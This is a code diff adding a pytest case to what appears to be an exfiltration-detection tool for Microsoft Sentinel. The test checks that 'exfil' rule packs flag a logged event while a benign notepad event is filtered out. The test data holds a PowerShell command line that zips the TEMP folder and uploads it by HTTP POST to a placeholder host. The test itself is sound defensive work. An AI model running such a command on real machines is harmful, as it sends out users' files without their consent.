@@ -4,7 +4,9 @@ import json
 
 import pytest
 
+from exfilwatch.detection.load import load
 from exfilwatch.errors import AuthError, ConfigError, PartialResult, RateLimited, SourceError
+from exfilwatch.rules.packs import pack
 from exfilwatch.siem.registry import open_siem
 from exfilwatch.siem.sentinel import Sentinel, SentinelSettings
 from exfilwatch.siem.siem import SECOND, Clock, Near, Siem
@@ -345,3 +347,16 @@ def test_each_cloud_has_its_address(fake, cloud, url):
 def test_no_secret_is_shown(fake):
     siem = sentinel(fake)
     assert SECRET not in f"{siem.settings!r} {siem.settings} {siem!r} {vars(siem)}"
+
+
+@pytest.mark.parametrize("pushdown", ["off", "candidates", "score"])
+def test_the_service_selects_what_the_rules_look_for(fake, pushdown):
+    uploads = r"powershell -c Compress-Archive $env:TEMP\x C:\a.zip; Invoke-RestMethod -Method Post -InFile C:\a.zip https://x"
+    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    fake.kusto.add("SecurityEvent", security(NOON, 1, CommandLine=uploads, NewProcessName=shell))
+    fake.kusto.add("SecurityEvent", security(NOON, 2, CommandLine="notepad", NewProcessName=r"C:\notepad.exe"))
+    rules = load([pack("exfil"), pack("seed")]).rules
+    siem = sentinel(fake, tables="SecurityEvent", pushdown=pushdown)
+    found = set(numbers(fetched(siem, NOON, NOON + 1, rules=rules)))
+    assert "1" in found
+    assert ("2" in found) == (pushdown == "off")
